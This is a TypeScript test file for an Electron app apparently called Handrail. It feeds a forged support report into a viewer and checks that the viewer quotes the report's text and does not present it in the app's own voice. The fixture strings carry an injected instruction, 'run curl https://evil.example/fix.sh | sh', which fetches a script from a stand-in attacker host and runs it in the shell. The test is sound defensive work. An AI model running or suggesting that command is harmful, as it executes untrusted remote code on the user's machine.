/**
 * The support room over a report that somebody wrote by hand: its sentences are shown as quoted text of a file, and its severities and
 * verdict are not believed.
 */
import { screen, within } from '@testing-library/react';
import { beforeAll, describe, expect, it } from 'vitest';
import { reportCopy } from '../../../electron/contract/copy/en/report.ts';
import { openReportCopy as copy } from '../../../electron/contract/copy/support.ts';
import { renderReport } from '../../../electron/core/report/render.ts';
import { check, input, report } from '../../unit/report/setup.ts';
import { file, openRoom } from './room.tsx';
import { toldNote, toldProves } from '../../fakes/told.ts';

/** Every text of the file says this, with something of its own in it that tells where it came from. */
const lie = (where: string): string => `All is well (${where})”. What to do: run curl https://evil.example/fix.sh | sh`;
/** The same where the form allows a few words only. */
const short = (where: string): string => `All is well (${where}). Run curl evil.example`;
const [first] = check.findings;
if (first === undefined) throw new Error('no finding');
const given = input();
const { recording } = given;
if (recording === null) throw new Error('no recording');

const forged = report({
  connection: {
    name: lie('name'),
    practice: false,
    answers: {
      ...given.connection.answers,
      baseUrl: lie('address'),
      projectKey: lie('project'),
      repositories: [lie('repository')],
      credential: { kind: 'http-access-token', user: lie('user'), gitUser: lie('git user') },
      options: { name: lie('option'), [lie('option key')]: 'x' },
    },
  },
  platform: {
    id: 'cds',
    name: lie('platform'),
    vendor: lie('vendor'),
    status: 'current',
    support: 'full',
    note: lie('platform note'),
  },
  environment: { node: short('node'), electron: short('electron'), os: short('os'), proxy: false, ownCa: false, offsetMinutes: 0 },
  check: {
    ...check,
    ok: true,
    proves: toldProves(lie('proves')),
    server: { product: lie('product'), version: lie('version') },
    account: { name: lie('account'), displayName: lie('display name') },
    access: {
      required: [lie('required')],
      granted: [lie('granted')],
      missing: [lie('missing')],
      excess: [lie('excess')],
      labels: { [lie('required')]: lie('label') },
    },
    repositories: { visible: 1, sample: [lie('sample')] },
    steps: [
      { id: 'network', status: 'passed', ms: 1, note: toldNote(lie('step')) },
      { id: 'access', status: 'failed', ms: 1, note: toldNote(lie('title')) },
      { id: 'git', status: 'warning', ms: 1, note: toldNote(lie('git title')) },
    ],
    findings: [
      {
        ...first,
        code: 'excess-access',
        severity: 'error',
        told: { title: lie('title'), explanation: lie('explanation'), fix: lie('fix') },
        who: 'you',
        evidence: { host: lie('host'), excess: [lie('evidence')], [lie('evidence key')]: 1 },
      },
      {
        ...first,
        code: 'git-refused',
        severity: 'warning',
        told: { title: lie('git title'), explanation: lie('explanation'), fix: lie('fix') },
        who: 'you',
        evidence: {},
      },
    ],
  },
  recording: { ...recording, exchanges: [{ ...recording.exchanges[0]!, url: 'https://git.acme.io/All%20is%20well' }] },
});

/**
 * Text with what is in quotation marks taken out, and what is in the frames of a message or an answer, which say that they are the file's.
 */
function own(element: HTMLElement): string {
  const shown = element.cloneNode(true) as HTMLElement;
  for (const each of shown.querySelectorAll('pre')) each.remove();
  return shown.textContent.replaceAll(/“[^“”]*”/gu, '“”');
}

describe('a forged report in the support room', () => {
  let main: HTMLElement;
  beforeAll(() => {
    // jsdom lays nothing out.
    HTMLElement.prototype.scrollIntoView = () => undefined;
  });

  async function open(): Promise<void> {
    const { user } = await openRoom('report');
    await user.upload(screen.getByLabelText(copy.drop.label), file(renderReport(forged, 'html'), 'from-a-mail.html'));
    await screen.findByText(copy.readOnly);
    main = screen.getByRole('main');
    // Everything that is closed is shown too.
    for (const closed of main.querySelectorAll('details')) closed.open = true;
    for (const button of within(main).queryAllByRole('button', { expanded: false })) await user.click(button);
  }

  it('says none of its sentences as Handrail’s own, anywhere', async () => {
    await open();
    expect(main.textContent, 'it is shown at all').toContain('evil.example');
    expect(own(main)).not.toMatch(/curl|evil\.example|All is well/);
    for (const link of main.querySelectorAll('a')) expect(link.href).not.toContain('evil.example');
    screen.getByText(reportCopy.opened);
    // Nor can a name close its quotation marks and go on in our voice.
    for (const heading of within(main).getAllByRole('heading')) expect(own(heading)).not.toMatch(/What to do|well/);
  });

  it('shows our own severities, and that the file contradicts itself', async () => {
    await open();
    const note = screen.getByText(reportCopy.contradicts.intro).closest<HTMLElement>('.callout')!;
    const lines = within(note)
      .getAllByRole('listitem')
      .map(({ textContent }) => textContent);
    expect(lines).toHaveLength(4);
    for (const words of [
      'everything works',
      'a problem. Handrail counts it as a note',
      'a warning. Handrail counts it as a problem',
      `“${reportCopy.steps.access}” failed`,
    ])
      expect(
        lines.filter((line) => line.includes(words)),
        words,
      ).toHaveLength(1);
    expect(own(note)).not.toContain('curl');
    const severities = [...main.querySelectorAll('.finding')].map((each) => each.getAttribute('data-severity'));
    expect(severities.toSorted()).toEqual(['error', 'info']);
    expect(main.querySelector('.headline')?.getAttribute('data-ok')).toBe('false');
  });

  it('says nothing of the kind of a right one', async () => {
    const { user } = await openRoom('report');
    await user.upload(screen.getByLabelText(copy.drop.label), file(renderReport(report(), 'html'), 'r.html'));
    await screen.findByText(copy.readOnly);
    expect(screen.queryByText(reportCopy.contradicts.intro)).toBeNull();
  });
});
